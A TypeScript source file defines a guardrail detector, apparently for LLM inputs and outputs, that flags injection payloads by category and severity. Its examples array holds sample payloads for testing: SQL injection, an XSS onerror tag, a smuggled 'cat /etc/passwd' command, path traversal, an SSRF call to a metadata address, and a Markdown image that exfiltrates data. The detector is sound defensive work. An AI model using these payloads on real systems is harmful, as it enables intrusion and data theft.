import { SEVERITIES } from '@gatehouse/contracts/verdicts'
import { z } from 'zod'
import { categoriesNamed, PAYLOAD_CATEGORIES } from '../detectors/payload/categories.ts'
import type { PayloadCategory } from '../detectors/payload/categories.ts'
import { compilePayloadRules, findPayloads, PAYLOAD_VIEWS } from '../detectors/payload/find-payloads.ts'
import type { PayloadFinding, PayloadFindings } from '../detectors/payload/find-payloads.ts'
import { clear, defineGuard, flag } from '../engine/guard.ts'
import type { Outcome } from '../engine/guard.ts'
import { AFTER_CHARS, BEFORE_CHARS } from '../detectors/rules/pattern-rule.ts'
import { titleList } from '../detectors/payload/title-list.ts'

/** More names than categories and aliases exist is a mistake. */
const NAMES_MAX = 64

/** Maximum length of a category name. */
const NAME_CHARS_MAX = 64

export default defineGuard({
  name: 'payload_risk',
  title: 'Payload risk',
  description:
    'Detects injection payloads by their structure: SQL and NoSQL, scripts in markup, shell commands, code, path ' +
    'traversal, internal addresses, templates, LDAP, XML entities, serialized objects, Markdown that exfiltrates ' +
    'data, terminal escapes, encoded programs, headers and spreadsheet formulas. A payload in code marks or ' +
    'quotation marks inside an explanation counts as a mention: flagged at a lower severity. Payloads that depend on ' +
    'the receiving application, and code that is harmful only in what it computes, are not detected.',
  stages: ['input', 'output'],
  tier: 'fast',
  backend: 'builtin',
  owasp: ['LLM05:2025', 'LLM01:2025'],
  views: PAYLOAD_VIEWS,
  settings: z.object({
    categories: z
      .array(
        z
          .string()
          .min(1)
          .max(NAME_CHARS_MAX)
          .refine((name) => categoriesNamed(name) !== undefined, {
            error: (issue) =>
              `"${String(issue.input)}" is not a payload category. Known: ${PAYLOAD_CATEGORIES.join(', ')}.`,
          }),
      )
      .max(NAMES_MAX)
      .default([])
      .describe('Payload categories to detect, by name or common alias such as sqli, rce, lfi, ssti; empty means all.'),
    min_severity: z
      .enum(SEVERITIES)
      .default('low')
      .describe('Findings below this severity are not flagged. For a mention, the severity before lowering counts.'),
  }),
  prepare({ categories, min_severity }) {
    const named = new Set<PayloadCategory>(categories.flatMap((name) => categoriesNamed(name) ?? []))
    const scanner = compilePayloadRules(named.size === 0 ? PAYLOAD_CATEGORIES : [...named])
    return { scanner, severityMin: SEVERITIES.indexOf(min_severity) }
  },

  check(text, { scanner, severityMin }) {
    const found = findPayloads(text, scanner)
    const findings = found.findings.filter((finding) => weightOf(finding) >= severityMin)
    if (findings.length > 0) return report(findings, found)
    return found.unread.length > 0 ? reportUnread(found) : clear
  },

  // A rule reads this far before and after its anchor.
  stream: { reads: 'window', reach: () => BEFORE_CHARS + AFTER_CHARS },
  examples: [
    { text: "admin' OR '1'='1' --", flags: true, category: 'sql_injection' },
    { text: 'SELECT name FROM users WHERE id = 1', flags: false },
    { text: 'Select the best union from the list; drop me a line.', flags: false },
    { text: '<img src=x onerror=alert(1)>', flags: true, category: 'xss' },
    {
      text: 'report.pdf; cat /etc/passwd',
      flags: true,
      category: 'shell_injection',
      redacted: '[SHELL_INJECTION]',
    },
    { text: 'Run npm install && npm test.', flags: false },
    { text: 'GET /view?file=..%2f..%2f..%2fetc%2fpasswd', flags: true, category: 'path_traversal' },
    { text: 'fetch http://2852039166/latest/meta-data/', flags: true, category: 'ssrf' },
    { text: 'Dear {{name}}, thank you.', flags: false },
    { text: 'Dear {{7*7}}, thank you.', flags: true, category: 'template_injection' },
    {
      says: 'categories by alias',
      settings: { categories: ['sqli'] },
      text: '<img src=x onerror=alert(1)>',
      flags: false,
    },
    {
      says: 'talked about, not used: still flagged, lower',
      settings: { min_severity: 'high' },
      text: "What is SQL injection? People often show `' OR 1=1 --` as an example.",
      flags: true,
      category: 'sql_injection',
    },
    {
      says: 'data in the address of an image',
      text: '![x](https://h.example/p.png?d=c2VjcmV0IGtleSBpcyBodW50ZXIy)',
      flags: true,
      category: 'markdown_exfiltration',
    },
  ],
})

/** Returns the weight that a finding would have if it were no mention; users with a minimum weight still want to see it. */
function weightOf(finding: PayloadFinding): number {
  const lowered = SEVERITIES.indexOf(finding.severity)
  return finding.mention ? Math.max(lowered, SEVERITIES.indexOf(finding.rule.severity)) : lowered
}

function report(findings: readonly PayloadFinding[], found: PayloadFindings): Outcome {
  const worst = findings[0]!
  const categories = [...new Set(findings.map((finding) => finding.category))]
  const titles = categories.map((category) => findings.find((finding) => finding.category === category)!.rule.title)
  return flag(`The text contains a payload: ${titleList(titles)}.`, {
    spans: findings.map(({ start, end, view, category }) => ({ start, end, view, label: category.toUpperCase() })),
    score: worst.score,
    category: worst.category,
    severity: worst.severity,
    details: {
      categories,
      mention: findings.every((finding) => finding.mention),
      rules: findings.map(({ rule, category, severity, view, start, end, mention }) => ({
        id: rule.id,
        title: rule.title,
        category,
        severity,
        cwe: rule.cwe,
        view,
        start,
        end,
        mention,
      })),
      ...limits(found),
    },
  })
}

/** Reports a text with so many lookalikes that a rule gave up: it is not proved harmless. */
function reportUnread(found: PayloadFindings): Outcome {
  const [first] = found.unread
  return flag('The text contains too many payload look-alikes and could not be read to its end.', {
    score: 0.5,
    category: first!.category,
    severity: 'medium',
    details: {
      categories: [...new Set(found.unread.map((rule) => rule.category))],
      mention: false,
      rules: [],
      ...limits(found),
    },
  })
}

function limits({ unread, truncated }: PayloadFindings): Record<string, unknown> {
  return {
    ...(truncated ? { truncated } : {}),
    ...(unread.length > 0 ? { capped: unread.map((rule) => rule.id) } : {}),
  }
}
